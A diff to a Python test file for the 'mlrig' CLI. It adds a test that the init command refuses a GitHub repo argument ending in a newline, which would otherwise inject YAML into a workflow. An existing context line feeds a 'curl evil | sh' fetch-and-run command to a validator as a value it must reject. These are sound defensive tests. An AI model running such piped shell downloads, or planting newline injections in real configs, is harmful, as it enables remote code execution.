@@ -12,6 +12,7 @@ import pytest
 import yaml
 from typer.testing import CliRunner
 
+from mlrig import contract
 from mlrig.contract import Mlflow
 from mlrig.core import bootstrap, bootstrap_names, bootstrap_render
 from mlrig.errors import ConfigError, UsageError
@@ -92,6 +93,19 @@ def test_answers_of_another_type_unknown_or_missing_are_refused() -> None:
         bootstrap_names.check_template_answers({**good, "post_install": "curl evil | sh"})
     with pytest.raises(UsageError, match="the answer stack is missing"):
         bootstrap_names.check_template_answers({k: v for k, v in good.items() if k != "stack"})
+
+
+def test_init_refuses_a_github_repo_with_a_line_break(mlrig_home: Path, tmp_path: Path) -> None:
+    """The owner/repo rule's `$` let a final newline by, which ended the workflow's comment
+    line and left the rest of the value as a line of YAML."""
+    contract.save(aws_outputs())
+    target = tmp_path / "proj"
+    args = ["init", str(target), "--stack", "prod", "--no-input", "--github-repo", "acme/proj\n"]
+    result = runner.invoke(app, args)
+    assert result.exit_code == 2, result.output
+    (line,) = result.output.strip().splitlines()
+    assert "invalid --github-repo 'acme/proj\\n'" in line and "control character" in line
+    assert not target.exists()
 
 
 def _write_answers(root: Path, data: dict[str, Any]) -> None:
